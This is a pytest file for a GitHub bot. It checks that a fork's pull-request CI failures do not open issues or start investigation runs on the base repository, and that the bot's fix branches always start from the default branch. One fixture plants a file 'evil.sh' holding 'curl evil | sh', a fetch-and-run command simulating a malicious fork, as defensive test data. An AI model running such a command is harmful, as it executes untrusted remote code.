"""A fork's CI failure is never taken for the default branch's, and an issue's change never starts from a commit
that is not on the default branch.

GitHub sends a fork pull request's check runs, check suites and workflow runs to the base repository with
``pull_requests: []`` and the fork's branch name as ``head_branch``. A fork PR from the fork's own ``master``
(the common case) then names the base repository's default branch: taken at its word, the bot would open a
"CI failure" issue here and run error-investigation on the fork's commit, and on /approve push a branch
carrying the fork author's commit into this repository (where ``on: push`` workflows run with its secrets).
"""

from __future__ import annotations

import dataclasses
import logging
from typing import Any

import pytest

from bot.core import events
from bot.github import changes
from bot.run.state import RunState, run_context
from bot.sandbox.team import Team
from tests.conftest import load_fixture
from tests.test_workflows_e2e import REPO, bot, comment_payload, fake, send, team  # noqa: F401

FORK = "mallory/Hello-World"
# A workflow run names its head repository; once the event carries it, telling a fork's run apart takes no read.
PAYLOAD_SAYS = "head_repo" in {f.name for f in dataclasses.fields(events.CiFailure)}
INSTALLATION = 2311213
LOG = "##[group]Run pytest\nFAILED tests/test_api.py::test_create - AssertionError: 500 != 201\n##[error]exit code 1."


def fork_pull(sandbox: Any) -> str:
    """A fork's pull request from its own ``master`` into ours; its head commit."""
    pr = sandbox.add_pull(REPO, title="fork pr", head_repo=FORK, head_ref="master", base_ref="master",
                          files={"evil.sh": "@@ -0,0 +1 @@\n+curl evil | sh\n"}, user="mallory")
    assert pr["head"]["repo"]["full_name"] == FORK
    return str(pr["head"]["sha"])


def check_failure(sha: str, check_id: int = 777001) -> dict[str, Any]:
    """A failed check run at ``sha`` naming ``master`` and no pull request, as GitHub sends a fork's."""
    p = load_fixture("check_run.completed.json")
    p["check_run"] |= {"id": check_id, "head_sha": sha, "pull_requests": []}
    p["check_run"]["check_suite"] |= {"head_branch": "master", "head_sha": sha, "pull_requests": []}
    p["check_run"]["output"] = {"title": "1 failed", "summary": "FAILED tests/test_x.py::test_y - boom"}
    return p


def workflow_failure(sandbox: Any, sha: str, head_repo: str) -> dict[str, Any]:
    """A failed workflow run at ``sha`` naming ``master``, run for ``head_repo``'s push or pull request."""
    wr = sandbox.add_workflow_run(REPO, name="CI", head_sha=sha, head_branch="master",
                                  event="push" if head_repo == REPO else "pull_request",
                                  jobs=[{"name": "tests", "conclusion": "failure", "log": LOG}])
    p = load_fixture("check_run.completed.json")
    p.pop("check_run")
    p |= {"action": "completed", "workflow_run": {
        "id": wr["id"], "name": "CI", "head_sha": sha, "head_branch": "master", "conclusion": "failure",
        "event": wr["event"], "pull_requests": [],
        "head_repository": {"full_name": head_repo, "name": "Hello-World", "owner": {"login": head_repo.split("/")[0]}}}}
    return p


def issues(sandbox: Any) -> list[Any]:
    return [w for w in sandbox.writes if w.kind == "issue"]


def compares(sandbox: Any) -> int:
    return sum(1 for r in sandbox.requests if r.path.startswith(f"/repos/{REPO}/compare/"))


def ignored(caplog: pytest.LogCaptureFixture, sha: str) -> bool:
    return any("not investigated" in m and sha[:12] in m for m in caplog.messages)


async def test_a_forks_check_run_on_its_master_opens_no_issue_and_no_run(
        bot: Any, sandbox: Any, team: Team, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="bot.run.ci")
    fork_sha = fork_pull(sandbox)
    await send(bot, sandbox, "check_run", check_failure(fork_sha))
    assert issues(sandbox) == [] and await bot[0].store.run_states() == {}
    assert compares(sandbox) == 1  # the payload cannot tell a fork's check run apart: GitHub was asked once
    assert ignored(caplog, fork_sha), caplog.messages


async def test_a_forks_workflow_run_on_its_master_opens_no_issue_and_no_run(
        bot: Any, sandbox: Any, team: Team, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="bot.run.ci")
    fork_sha = fork_pull(sandbox)
    await send(bot, sandbox, "workflow_run", workflow_failure(sandbox, fork_sha, FORK))
    assert issues(sandbox) == [] and await bot[0].store.run_states() == {}
    assert compares(sandbox) == (0 if PAYLOAD_SAYS else 1)
    assert ignored(caplog, fork_sha), caplog.messages


async def test_a_failure_on_the_default_branch_still_opens_its_issue_and_its_change_starts_there(
        bot: Any, sandbox: Any, team: Team) -> None:
    sandbox.set_permission(REPO, "maintainer", "write")
    failing = sandbox.set_file(REPO, "app/x.py", "x = 1\n")
    sandbox.set_file(REPO, "app/y.py", "y = 1\n")  # the branch moved on: the failing commit is behind its head
    await send(bot, sandbox, "check_run", check_failure(failing))
    opened = issues(sandbox)
    assert len(opened) == 1 and opened[0].data["title"].startswith("CI failure: ")
    assert compares(sandbox) == 1
    number = opened[0].number
    record = await bot[0].store.active_run(f"{REPO}#{number}")
    assert record is not None and RunState.open(record).data.ctx.head_sha == failing
    await send(bot, sandbox, "issue_comment", comment_payload(number, "/approve"))
    pulls = [w for w in sandbox.writes if w.kind == "pull"]
    assert len(pulls) == 1
    head = sandbox.resolve(sandbox.repo(REPO), pulls[0].data["head"])
    assert sandbox.obj(head, "commit")["parents"] == [failing]  # a commit on the branch: the change starts on it


async def test_a_workflow_run_of_this_repositorys_default_branch_opens_its_issue(bot: Any, sandbox: Any, team: Team) -> None:
    sha = sandbox.resolve(sandbox.repo(REPO), "master")
    await send(bot, sandbox, "workflow_run", workflow_failure(sandbox, sha, REPO))
    opened = issues(sandbox)
    assert len(opened) == 1 and opened[0].data["title"].startswith("CI failure: tests: tests/test_api.py::test_create")
    assert compares(sandbox) == (0 if PAYLOAD_SAYS else 1)


async def test_an_issues_change_never_starts_from_a_commit_off_the_default_branch(bot: Any, sandbox: Any) -> None:
    """Whatever put a fork's commit in an issue run's context, the bot's branch starts from the default branch."""
    rt, _ = bot
    fork_sha = fork_pull(sandbox)
    master = sandbox.resolve(sandbox.repo(REPO), "master")
    gh = await rt.github.installation(INSTALLATION)
    ctx = run_context(REPO, 5, head_sha=fork_sha, default_branch="master", title="CI failure", body="").as_dict()
    await changes.deliver(gh, rt.store, run_id="run-on-a-fork-commit", ctx=ctx, workflow="error-investigation",
                          files=[{"path": "app/fix.py", "content": "x = 2\n"}], title="Fix", base_sha=fork_sha)
    branch = sandbox.resolve(sandbox.repo(REPO), changes.branch_for("run-on-a-fork-commit"))
    assert sandbox.obj(branch, "commit")["parents"] == [master]
    assert fork_sha not in sandbox.ancestors(branch)


@pytest.mark.parametrize("answer", [[], None, "identical", {"status": None}, {"status": ["identical"]}, {}])
async def test_a_compare_answer_of_another_shape_proves_nothing(answer: Any) -> None:
    """GitHub's description allows odd answers (a proxy's, a truncated one): none counts as "on the branch"."""
    from bot.github.changes import on_branch

    class Answers:
        async def getitem(self, url: str) -> Any:
            return answer

    assert await on_branch(Answers(), "o/r", "main", "a" * 40) is False  # type: ignore[arg-type]
